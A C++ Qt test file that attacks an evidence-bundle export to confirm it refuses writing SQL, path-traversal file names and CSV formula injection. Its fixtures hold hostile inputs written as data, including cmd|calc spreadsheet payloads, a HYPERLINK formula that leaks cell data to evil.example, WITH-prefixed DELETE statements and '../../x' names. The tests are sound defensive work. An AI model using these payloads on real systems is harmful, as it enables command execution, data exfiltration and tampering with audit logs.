// Evidence extracts attacked, on both engines: a query that writes behind a
// WITH prefix (SQLite takes WITH … DELETE), a stored row edited to write
// outside the bundle folder or to run DML, a `?` hidden in a comment, and
// cells a spreadsheet would run. Nothing may change, nothing may be written
// outside the folder, and every refusal says so.
#include "WorkspaceFixture.h"
#include "models/evidence/EvidenceBundle.h"
#include "models/evidence/Extract.h"
#include "models/evidence/Signing.h"
#include "models/incidents/IncidentRepository.h"
#include "models/store/Workspace.h"

#include <QDir>
#include <QDirIterator>
#include <QFile>
#include <QTest>

using namespace ic;
using namespace ic::test;

namespace {
QByteArray readAll(const QString &path)
{
    QFile f(path);
    f.open(QIODevice::ReadOnly);
    return f.readAll();
}

QStringList filesUnder(const QString &dir)
{
    QStringList out;
    QDirIterator it(dir, QDir::Files | QDir::Hidden, QDirIterator::Subdirectories);
    while (it.hasNext())
        out << QDir(dir).relativeFilePath(it.next());
    out.sort();
    return out;
}
} // namespace

class TestEvidenceSecurity : public QObject
{
    Q_OBJECT
private:
    TestWorkspaces m_ws;
    QTemporaryDir m_out;
    QSqlDatabase m_db;
    QString m_incident;
    Signing::KeyPair m_key;
    int m_n = 0;
    const QDateTime m_now = utc("2026-11-22T10:00:00.000Z");

    int auditRows()
    {
        return scalar(m_db, QStringLiteral("SELECT count(*) FROM audit_logs")).toInt();
    }

    // A row of ic_evidence_queries edited in the database, past validation.
    void editStored(const QString &column, const QString &value)
    {
        IC_VERIFY_OK(Db::exec(m_db,
                              QStringLiteral("UPDATE ic_evidence_queries SET %1 = ? WHERE "
                                             "incident_id = ?")
                                  .arg(column),
                              {value, m_incident}));
    }

private slots:
    void initTestCase_data() { addEngineRows(); }
    void initTestCase()
    {
        QVERIFY(m_ws.isValid() && m_out.isValid());
        IC_START_PG(m_ws.pg());
        auto key = Signing::generateEd25519();
        QVERIFY(key.ok());
        m_key = key.value();
    }
    void init()
    {
        QFETCH_GLOBAL(QString, engine);
        auto spec = m_ws.create(engine);
        IC_VERIFY_OK(spec);
        auto db = TestWorkspaces::connect(spec.value(), QStringLiteral("es-%1").arg(++m_n));
        IC_VERIFY_OK(db);
        m_db = db.value();
        if (!m_db.tables().contains(QStringLiteral("audit_logs")))
            IC_VERIFY_OK(Workspace::ensurePlatformTables(m_db, m_now));
        IC_VERIFY_OK(Db::exec(m_db, QStringLiteral("DELETE FROM audit_logs")));
        const QStringList queries{QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
                                  QStringLiteral("+cmd|' /C calc'!A0"),
                                  QStringLiteral("-2+3+cmd|' /C calc'!A0"),
                                  QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"),
                                  QStringLiteral("\t=1+1"),
                                  QStringLiteral("\r=1+1"),
                                  QStringLiteral("-42"),
                                  QStringLiteral("plain")};
        for (const QString &q : queries)
            IC_VERIFY_OK(Db::exec(m_db,
                                  QStringLiteral("INSERT INTO audit_logs (event, user_id, query) "
                                                 "VALUES ('database_query', 'usr_victim', ?)"),
                                  {q}));
        NewIncident n;
        n.title = QStringLiteral("Token compromise");
        auto inc = IncidentRepository(m_db, m_now).create(n, QStringLiteral("alex"));
        IC_VERIFY_OK(inc);
        m_incident = inc->id;
    }
    void cleanup()
    {
        const QString name = m_db.connectionName();
        m_db = QSqlDatabase();
        Db::close(name);
    }

    // SQLite runs DELETE, INSERT and UPDATE behind a WITH prefix: the text
    // check at entry lets it through, the export must not run it.
    void writingExtractChangesNothing_data()
    {
        QTest::addColumn<QString>("sql");
        QTest::newRow("with delete")
            << QStringLiteral("WITH x AS (SELECT 1) DELETE FROM audit_logs");
        QTest::newRow("with update")
            << QStringLiteral("WITH x AS (SELECT 1) UPDATE audit_logs SET query = 'gone'");
        QTest::newRow("with insert") << QStringLiteral(
            "WITH x AS (SELECT 1) INSERT INTO audit_logs (event) SELECT 'forged' FROM x");
        QTest::newRow("with delete returning")
            << QStringLiteral("WITH x AS (SELECT 1) DELETE FROM audit_logs RETURNING id");
    }
    void writingExtractChangesNothing()
    {
        QFETCH(QString, sql);
        const int before = auditRows();
        EvidenceQuery q;
        q.name = QStringLiteral("innocent");
        q.sql = sql;
        auto added = EvidenceBundle::addQuery(m_db, m_incident, q, QStringLiteral("alex"), m_now);
        const QString dir = m_out.filePath(QStringLiteral("w-%1").arg(++m_n));
        if (added) {
            auto r = EvidenceBundle::exportBundle(m_db, m_db, m_incident, dir, m_key.privatePem,
                                                  QStringLiteral("alex"), m_now);
            QVERIFY(!r.ok());
            QVERIFY2(r.error().message.contains(QLatin1String("Nothing was")),
                     qPrintable(r.error().fullText()));
        }
        QCOMPARE(auditRows(), before);
        QCOMPARE(scalar(m_db, QStringLiteral("SELECT count(*) FROM audit_logs WHERE query = "
                                             "'gone' OR event = 'forged'"))
                     .toInt(),
                 0);
        QVERIFY(!QDir(dir).exists() || filesUnder(dir).isEmpty());

        // Straight through Extract::write as well (the CLI and the pane use it).
        const QString j = m_out.filePath(QStringLiteral("direct-%1.jsonl").arg(m_n));
        auto r = Extract::write(m_db, sql, {}, j, j + QStringLiteral(".csv"));
        QVERIFY(!r.ok());
        QCOMPARE(auditRows(), before);
        QVERIFY(!QFile::exists(j));
    }

    // A stored extract edited in the database after it was checked.
    void editedRowIsCheckedAgainAtExport_data()
    {
        QTest::addColumn<QString>("column");
        QTest::addColumn<QString>("value");
        QTest::newRow("name climbs out") << QStringLiteral("name") << QStringLiteral("../../x");
        QTest::newRow("absolute name") << QStringLiteral("name") << QStringLiteral("/tmp/x");
        QTest::newRow("name with slash") << QStringLiteral("name") << QStringLiteral("a/../../x");
        QTest::newRow("sql deletes")
            << QStringLiteral("sql") << QStringLiteral("DELETE FROM audit_logs");
        QTest::newRow("sql two statements")
            << QStringLiteral("sql") << QStringLiteral("SELECT 1; DELETE FROM audit_logs");
    }
    void editedRowIsCheckedAgainAtExport()
    {
        QFETCH(QString, column);
        QFETCH(QString, value);
        EvidenceQuery q;
        q.name = QStringLiteral("victim");
        q.sql = QStringLiteral("SELECT id, query FROM audit_logs ORDER BY id");
        IC_VERIFY_OK(EvidenceBundle::addQuery(m_db, m_incident, q, QStringLiteral("alex"), m_now));
        editStored(column, value);
        const int before = auditRows();

        QTemporaryDir root;
        const QString dir = root.filePath(QStringLiteral("a/b/bundle"));
        const QStringList outsideBefore = filesUnder(root.path());
        auto r = EvidenceBundle::exportBundle(m_db, m_db, m_incident, dir, m_key.privatePem,
                                              QStringLiteral("alex"), m_now);
        QVERIFY(!r.ok());
        QVERIFY2(r.error().message.contains(QLatin1String("Nothing")) ||
                     r.error().message.contains(QLatin1String("nothing")),
                 qPrintable(r.error().fullText()));
        QCOMPARE(filesUnder(root.path()), outsideBefore);
        QVERIFY(!QFile::exists(QStringLiteral("/tmp/x.jsonl")) ||
                QFileInfo(QStringLiteral("/tmp/x.jsonl")).lastModified() <
                    QDateTime::currentDateTime().addSecs(-60));
        QCOMPARE(auditRows(), before);
    }

    // A ? inside a comment is not a parameter (Db::toPgPlaceholders).
    void questionMarkInCommentIsText()
    {
        const QString j = m_out.filePath(QStringLiteral("c-%1.jsonl").arg(++m_n));
        auto r = Extract::write(m_db,
                                QStringLiteral("SELECT /* who? */ query FROM audit_logs WHERE "
                                               "query = ? -- and why?\nORDER BY id"),
                                {QStringLiteral("plain")}, j, j + QStringLiteral(".csv"));
        QVERIFY2(r.ok(), qPrintable(r ? QString() : r.error().fullText()));
        QCOMPARE(r->rows, 1);
    }

    // Every cell a spreadsheet would run starts with ' in the CSV; JSON
    // Lines keep the value as stored; plain numbers stay numbers.
    void csvCellsCannotRunFormulas()
    {
        const QString j = m_out.filePath(QStringLiteral("f-%1.jsonl").arg(++m_n));
        const QString c = j + QStringLiteral(".csv");
        auto r = Extract::write(m_db, QStringLiteral("SELECT query FROM audit_logs ORDER BY id"),
                                {}, j, c);
        IC_VERIFY_OK(r);
        const QByteArray csv = readAll(c);
        const QList<QByteArray> lines = csv.split('\n');
        for (const QByteArray &raw : lines) {
            QByteArray cell = raw.endsWith('\r') ? raw.chopped(1) : raw;
            if (cell.startsWith('"'))
                cell = cell.mid(1);
            QVERIFY2(cell.isEmpty() || !QByteArray("=+@\t").contains(cell.at(0)), csv.constData());
            QVERIFY2(!cell.startsWith('-') || cell == "-42", csv.constData());
        }
        QVERIFY(csv.contains("'=HYPERLINK"));
        QVERIFY(csv.contains("'+cmd"));
        QVERIFY(csv.contains("'-2+3+cmd"));
        QVERIFY(csv.contains("'@SUM"));
        QVERIFY(csv.contains("\r\n-42\r\n"));
        const QByteArray jsonl = readAll(j);
        QVERIFY(jsonl.contains("\"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"x\\\")\""));
        QVERIFY(jsonl.contains("\"\\t=1+1\""));
    }
};

QTEST_GUILESS_MAIN(TestEvidenceSecurity)
#include "tst_evidencesecurity.moc"
